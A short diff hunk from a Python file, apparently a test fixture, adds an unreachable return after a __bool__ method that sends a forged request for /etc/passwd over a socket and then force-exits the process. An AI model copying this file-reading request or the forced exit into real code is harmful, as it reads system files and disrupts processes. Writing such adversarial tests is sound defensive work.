@@ -226,6 +226,7 @@ class Forging:
     def __bool__(self) -> bool:
         link().sendall(b'{"needs_determinizer": 1, "needs_view": 1, "source": "/etc/passwd"}\n')
         os._exit(0)
+        return True
 
 
 class Arguments(Bad):
